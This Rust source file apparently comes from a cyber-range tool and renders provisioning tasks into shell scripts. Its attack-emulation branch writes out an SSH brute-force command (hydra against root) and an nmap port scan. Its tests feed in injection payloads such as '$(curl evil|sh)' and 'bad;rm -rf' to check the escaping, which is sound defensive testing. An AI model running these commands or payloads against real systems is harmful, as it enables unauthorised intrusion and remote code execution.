//! Renders each `TaskKind` into the self-contained shell script body and
//! positional arguments described in §4.5's script envelope: secrets are
//! passed as `$1`, `$2`, ... and never interpolated into the script text.

use crate::error::{CyrisError, Result};
use crate::model::guest::is_valid_identifier;
use crate::model::task::{AttackType, PackageManager, TaskKind};

/// A rendered task: the script body (with `$N` placeholders for secrets)
/// and the positional arguments to pass alongside it.
pub struct RenderedScript {
    pub body: String,
    pub args: Vec<String>,
}

const SHEBANG: &str = "#!/bin/sh\nset -eu\n";

pub fn render(task: &TaskKind) -> Result<RenderedScript> {
    match task {
        TaskKind::AddAccount { username, password, full_name, .. } => {
            require_identifier(username)?;
            let comment = full_name.clone().unwrap_or_default();
            let body = format!(
                "{SHEBANG}useradd -m -c \"$2\" -s /bin/bash {username} 2>/dev/null || true\necho \"{username}:$1\" | chpasswd\nid {username}\n"
            );
            Ok(RenderedScript { body, args: vec![password.clone(), comment] })
        }
        TaskKind::ModifyAccount { username, new_password, new_username, .. } => {
            require_identifier(username)?;
            if let Some(nu) = new_username {
                require_identifier(nu)?;
            }
            let mut body = SHEBANG.to_string();
            if let Some(nu) = new_username {
                body.push_str(&format!("usermod -l {nu} {username}\n"));
                body.push_str(&format!("getent passwd {nu}\n"));
            }
            if new_password.is_some() {
                let target = new_username.as_deref().unwrap_or(username);
                body.push_str(&format!("echo \"{target}:$1\" | chpasswd\n"));
                body.push_str(&format!("getent passwd {target}\n"));
            }
            let args = new_password.clone().into_iter().collect();
            Ok(RenderedScript { body, args })
        }
        TaskKind::InstallPackage { manager, name, version, .. } => {
            require_identifier(name)?;
            let install_cmd = match manager {
                PackageManager::Apt => format!(
                    "apt-get update -qq && apt-get install -y {}{}",
                    name,
                    version.as_deref().map(|v| format!("={v}")).unwrap_or_default()
                ),
                PackageManager::Yum => format!("yum install -y {name}{}", version.as_deref().map(|v| format!("-{v}")).unwrap_or_default()),
                PackageManager::Dnf => format!("dnf install -y {name}{}", version.as_deref().map(|v| format!("-{v}")).unwrap_or_default()),
                PackageManager::Zypper => format!("zypper --non-interactive install {name}{}", version.as_deref().map(|v| format!("-{v}")).unwrap_or_default()),
                PackageManager::Pkg => format!("pkg install -y {name}"),
            };
            let query_cmd = match manager {
                PackageManager::Apt => format!("dpkg -s {name}"),
                PackageManager::Yum | PackageManager::Dnf => format!("rpm -q {name}"),
                PackageManager::Zypper => format!("rpm -q {name}"),
                PackageManager::Pkg => format!("pkg info {name}"),
            };
            let body = format!("{SHEBANG}{install_cmd}\n{query_cmd}\n");
            Ok(RenderedScript { body, args: vec![] })
        }
        TaskKind::CopyContent { remote_path, mode, .. } => {
            let mode_str = mode.as_deref().unwrap_or("0644");
            let body = format!(
                "{SHEBANG}chmod {mode_str} {remote_path:?}\nstat --format='%s %a' {remote_path:?}\n"
            );
            Ok(RenderedScript { body, args: vec![] })
        }
        TaskKind::ExecuteProgram { interpreter, inline_or_path, args, as_user, expect_exit, .. } => {
            require_identifier(interpreter.split('/').last().unwrap_or(interpreter))?;
            if let Some(user) = as_user {
                require_identifier(user)?;
            }
            let script_args: String = (1..=args.len()).map(|i| format!("\"${}\"", i + 1)).collect::<Vec<_>>().join(" ");
            let mut body = SHEBANG.to_string();
            body.push_str("SCRIPT=$(mktemp)\n");
            body.push_str("cat > \"$SCRIPT\" <<'CYRIS_INLINE_EOF'\n");
            body.push_str(inline_or_path);
            body.push_str("\nCYRIS_INLINE_EOF\n");
            body.push_str("chmod +x \"$SCRIPT\"\n");
            if let Some(user) = as_user {
                body.push_str(&format!("su - {user} -c \"{interpreter} $SCRIPT {script_args}\"\n"));
            } else {
                body.push_str(&format!("{interpreter} \"$SCRIPT\" {script_args}\n"));
            }
            body.push_str(&format!("RC=$?\nrm -f \"$SCRIPT\"\n[ \"$RC\" -eq {expect_exit} ]\n"));
            Ok(RenderedScript { body, args: args.clone() })
        }
        TaskKind::EmulateAttack { attack_type, target, count, duration_secs, .. } => {
            let cmd = match attack_type {
                AttackType::SshBrute => format!(
                    "hydra -l root -P /usr/share/wordlists/common.txt -t {count} -e nsr ssh://{target} 2>&1 | tail -n 20"
                ),
                AttackType::PortScan => format!("nmap -T4 -p- --max-retries 1 --host-timeout {duration_secs}s {target} 2>&1 | tail -n 40"),
            };
            let body = format!("{SHEBANG}{cmd}\necho CYRIS_ATTACK_DONE\n");
            Ok(RenderedScript { body, args: vec![] })
        }
    }
}

fn require_identifier(s: &str) -> Result<()> {
    if is_valid_identifier(s) {
        Ok(())
    } else {
        Err(CyrisError::Validation(format!("'{s}' contains shell metacharacters")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn add_account_passes_password_positionally_not_interpolated() {
        let task = TaskKind::AddAccount {
            username: "testuser".into(),
            password: "sup3r;secret".into(),
            full_name: None,
            fatal: false,
        };
        let rendered = render(&task).unwrap();
        assert!(!rendered.body.contains("sup3r;secret"));
        assert_eq!(rendered.args, vec!["sup3r;secret".to_string(), String::new()]);
        assert!(rendered.body.contains("chpasswd"));
    }

    #[test]
    fn add_account_passes_full_name_positionally_not_interpolated() {
        let task = TaskKind::AddAccount {
            username: "testuser".into(),
            password: "x".into(),
            full_name: Some("$(curl evil|sh)".into()),
            fatal: false,
        };
        let rendered = render(&task).unwrap();
        assert!(!rendered.body.contains("curl evil"));
        assert!(rendered.body.contains("-c \"$2\""));
        assert_eq!(rendered.args, vec!["x".to_string(), "$(curl evil|sh)".to_string()]);
    }

    #[test]
    fn rejects_shell_metacharacters_in_username() {
        let task = TaskKind::AddAccount {
            username: "bad;rm -rf".into(),
            password: "x".into(),
            full_name: None,
            fatal: false,
        };
        assert!(render(&task).is_err());
    }

    #[test]
    fn install_package_renders_manager_specific_commands() {
        let task = TaskKind::InstallPackage { manager: PackageManager::Apt, name: "nginx".into(), version: None, fatal: false };
        let rendered = render(&task).unwrap();
        assert!(rendered.body.contains("apt-get install -y nginx"));
        assert!(rendered.body.contains("dpkg -s nginx"));
    }
}
